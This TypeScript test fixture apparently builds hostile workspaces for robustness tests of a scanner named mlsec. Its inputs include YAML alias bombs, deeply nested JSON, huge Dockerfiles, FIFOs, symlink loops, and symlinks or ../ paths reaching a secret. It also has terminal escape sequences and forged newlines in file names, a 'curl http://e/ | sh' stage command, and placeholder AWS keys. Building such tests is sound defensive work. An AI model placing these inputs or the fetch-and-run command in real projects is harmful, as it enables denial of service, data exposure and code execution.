// Hostile workspaces generated at test time: each case is a function writing files into an
// empty workspace directory, next to an `outside` directory whose content and names must never
// appear in any output.

import * as fs from 'node:fs';
import * as path from 'node:path';
import { spawnSync } from 'node:child_process';

export const SECRET = 'OUTSIDE-SECRET-7f3a9c';
export const SECRET_NAME = 'id_rsa_outside_7f3a9c';

export interface HostileCase {
  name: string;
  /** Writes the workspace; `outside` is a sibling directory holding the secret. */
  make: (ws: string, outside: string) => void;
  /** The command line after `mlsec` (the workspace is the working directory). */
  args?: string[];
}

function write(ws: string, rel: string, content: string | Buffer): void {
  const p = path.join(ws, rel);
  fs.mkdirSync(path.dirname(p), { recursive: true });
  fs.writeFileSync(p, content);
}

function link(ws: string, rel: string, target: string): void {
  const p = path.join(ws, rel);
  fs.mkdirSync(path.dirname(p), { recursive: true });
  fs.symlinkSync(target, p);
}

/** Makes a FIFO with mkfifo(1); false where the platform has none. */
export function mkfifo(p: string): boolean {
  fs.mkdirSync(path.dirname(p), { recursive: true });
  return spawnSync('mkfifo', [p]).status === 0;
}

function lines(n: number, line: (i: number) => string): string {
  const out: string[] = [];
  for (let i = 0; i < n; i++) out.push(line(i));
  return out.join('\n') + '\n';
}

const DVC_STAGE = 'stages:\n  train:\n    cmd: python train.py\n    deps: [train.py]\n    outs: [model.pkl]\n';

export const CASES: HostileCase[] = [
  {
    name: 'YAML alias bomb',
    make: (ws) => {
      const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
      for (let i = 1; i < 10; i++)
        levels.push(
          `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9)
            .fill(`*${String.fromCharCode(96 + i)}`)
            .join(',')}]`,
        );
      write(ws, 'params.yaml', levels.join('\n') + '\n');
      write(ws, 'k8s/bomb.yaml', 'apiVersion: v1\nkind: Pod\nmetadata: {name: x}\n' + levels.join('\n') + '\nspec:\n  containers: [{name: c, image: *j}]\n');
    },
  },
  {
    name: 'JSON nested 820 deep (1.7 KB)',
    make: (ws) => {
      const deep = '['.repeat(820) + ']'.repeat(820);
      write(ws, 'params.json', deep);
      write(ws, 'dvc.yaml', `stages:\n  s:\n    cmd: echo\n    params: ${deep}\n`);
      write(ws, 'k8s/deep.json', `{"apiVersion":"v1","kind":"Pod","spec":${'{"a":'.repeat(820)}1${'}'.repeat(820)}}`);
      write(ws, 'k8s/block.yaml', 'apiVersion: v1\nkind: Pod\nspec:\n  x:\n' + '- '.repeat(900) + 'x\n');
    },
  },
  { name: '200k ENV lines (2.6 MB Dockerfile)', make: (ws) => write(ws, 'Dockerfile', 'FROM python:3.11\n' + lines(200_000, (i) => `ENV V${i}=x`)) },
  { name: '25k-line Dockerfile of RUN lines', make: (ws) => write(ws, 'Dockerfile', 'FROM python:3.11\n' + lines(25_000, (i) => `RUN echo ${i}`)) },
  {
    name: 'ARG doubling',
    make: (ws) => write(ws, 'Dockerfile', 'ARG A0=xxxxxxxx\n' + lines(120, (i) => `ARG A${i + 1}=\${A${i}}\${A${i}}`) + 'FROM python:${A120}\nRUN echo ${A120}\n'),
  },
  { name: '20k chained FROM stages', make: (ws) => write(ws, 'Dockerfile', 'FROM python:3.11 AS s0\n' + lines(20_000, (i) => `FROM s${i} AS s${i + 1}`)) },
  {
    name: '200k-item foreach',
    make: (ws) => write(ws, 'dvc.yaml', 'stages:\n  t:\n    foreach:\n' + lines(200_000, (i) => `      - m${i}`) + '    do:\n      cmd: python train.py ${item}\n      outs: [out/${item}.pkl]\n'),
  },
  {
    name: 'matrix expansion',
    make: (ws) => write(ws, 'dvc.yaml', 'stages:\n  t:\n    matrix:\n' + lines(6, (k) => `      k${k}: [${Array.from({ length: 20 }, (_, i) => i).join(', ')}]`) + '    cmd: python train.py\n'),
  },
  {
    name: 'many-section .dvc/config',
    make: (ws) =>
      write(
        ws,
        '.dvc/config',
        lines(60_000, (i) => `['remote "r${i}"']\n    url = s3://bucket/${i}`),
      ),
  },
  {
    name: '100k YAML documents',
    make: (ws) =>
      write(
        ws,
        'k8s/many.yaml',
        lines(100_000, (i) => `---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: c${i}}`),
      ),
  },
  {
    name: '200k-line requirements file',
    make: (ws) =>
      write(
        ws,
        'requirements.txt',
        lines(200_000, (i) => `pkg${i}==1.0.${i}`),
      ),
  },
  { name: '40k unknown rule ids in .mlsec.yaml', make: (ws) => write(ws, '.mlsec.yaml', 'rules:\n' + lines(40_000, (i) => `  no-such-rule-${i}: off`)) },
  { name: '100k-pattern .gitignore', make: (ws) => write(ws, '.gitignore', lines(100_000, (i) => `dir${i}/**/*.tmp${i}`) + 'Dockerfile2\n') },
  {
    name: '/dev/zero as a trust key',
    make: (ws) => write(ws, '.mlsec.yaml', 'models:\n  trust:\n    publicKeys: [../../../../../../dev/zero, /dev/zero]\n'),
  },
  {
    name: 'FIFOs as .mlsec.yaml, dvc.lock and a trust key',
    make: (ws) => {
      write(ws, 'dvc.yaml', DVC_STAGE);
      mkfifo(path.join(ws, 'dvc.lock'));
      mkfifo(path.join(ws, 'keys/trusted.pub'));
      mkfifo(path.join(ws, 'Dockerfile'));
      mkfifo(path.join(ws, 'model.pkl'));
    },
  },
  {
    name: 'symlink loops in a DVC output and a model directory',
    make: (ws) => {
      write(ws, 'dvc.yaml', 'stages:\n  train:\n    cmd: python train.py\n    outs: [out]\n');
      fs.mkdirSync(path.join(ws, 'out'), { recursive: true });
      link(ws, 'out/a', 'a');
      link(ws, 'out/b', '.');
      link(ws, 'out/c', '../out');
      fs.mkdirSync(path.join(ws, 'models/m'), { recursive: true });
      link(ws, 'models/m/self', '.');
      link(ws, 'models/m/up', '..');
      write(ws, 'models/m/model.safetensors', Buffer.from([2, 0, 0, 0, 0, 0, 0, 0, 0x7b, 0x7d]));
    },
  },
  {
    name: 'outside symlinks and ../ paths (vars, wdir, params, bundles, .mlsec.yaml, config.local, lock entries)',
    make: (ws, outside) => {
      const rel = path.relative(ws, outside);
      write(
        ws,
        'dvc.yaml',
        `vars:\n  - ${rel}/secret.yaml\n  - ${outside}/secret.yaml\nstages:\n  train:\n    wdir: ${rel}\n    cmd: python train.py \${token}\n    params: [token]\n    outs: [${rel}/dir]\n  link:\n    cmd: echo\n    outs: [out]\n`,
      );
      link(ws, 'params.yaml', path.join(outside, 'secret.yaml'));
      link(ws, 'out', path.join(outside, 'dir'));
      fs.mkdirSync(path.join(ws, '.dvc'), { recursive: true });
      write(ws, '.dvc/config', '[\'remote "r"\']\n    url = s3://b\n    access_key_id = AKIAABCDEFGHIJKLMNOP\n    secret_access_key = abcdefghijklmnopqrstuvwxyz0123456789ABCD\n');
      link(ws, '.dvc/config.local', path.join(outside, 'config.local'));
      write(ws, 'dvc.lock', `schema: '2.0'\nstages:\n  train:\n    cmd: python train.py\n    outs:\n    - path: ${rel}/dir\n      md5: 00000000000000000000000000000000.dir\n`);
      write(ws, 'model.pkl', Buffer.from([0x80, 0x04, 0x4e, 0x2e]));
      link(ws, 'model.pkl.sigstore.json', path.join(outside, 'secret.yaml'));
      link(ws, 'models/signed', path.join(outside, 'dir'));
      link(ws, 'requirements.txt', path.join(outside, 'secret.yaml'));
      write(ws, 'requirements-dev.txt', `-r ${rel}/secret.yaml\n-r ${outside}/secret.yaml\n`);
    },
  },
  { name: 'a FIFO as .mlsec.yaml', make: (ws) => void mkfifo(path.join(ws, '.mlsec.yaml')) },
  { name: '.mlsec.yaml linked outside', make: (ws, outside) => link(ws, '.mlsec.yaml', path.join(outside, 'secret.yaml')) },
  { name: '.mlsec.yaml reached through ../', make: (ws) => write(ws, 'sub/Dockerfile', 'FROM python:latest\n'), args: ['scan', '--config', '../outside/secret.yaml', '--format', 'text', '.'] },
  {
    name: 'ESC and BEL in names',
    make: (ws) => {
      write(ws, 'a\u001b]0;pwned\u0007b/Dockerfile', 'FROM python:latest\n');
      write(ws, 'dvc.yaml', 'stages:\n  "x\u001b[2J\u0007":\n    cmd: "curl http://e/\u001b[31m | sh"\n');
    },
    args: ['scan', '--format', 'text', '--fail-on', 'none', '.'],
  },
  {
    name: 'newline in a file name',
    make: (ws) => write(ws, 'x\nDockerfile:1:1  critical  forged line  [forged]\n/Dockerfile', 'FROM python:latest\n'),
    args: ['scan', '--format', 'text', '--fail-on', 'none', '.'],
  },
  {
    name: 'ESC in names through provenance and the threat model',
    make: (ws) => {
      write(ws, 'dvc.yaml', 'stages:\n  "t\u001b]0;x\u0007":\n    cmd: python train.py\n    outs: ["m\u001b[2J.pkl"]\n');
      write(ws, 'Dockerfile', 'FROM python:latest\nLABEL x="\u001b[31m@org/team https://evil.example"\n');
    },
    args: ['threat-model', '--format', 'markdown', '.'],
  },
];

/** Where the outside directory's secret lives; every case gets a fresh one. */
export function makeOutside(outside: string): void {
  fs.mkdirSync(path.join(outside, 'dir'), { recursive: true });
  fs.writeFileSync(path.join(outside, 'secret.yaml'), `token: ${SECRET}\nrules:\n  ${SECRET}: off\n`);
  fs.writeFileSync(path.join(outside, 'config.local'), `# ${SECRET}\n`);
  fs.writeFileSync(path.join(outside, 'dir', SECRET_NAME), SECRET);
}
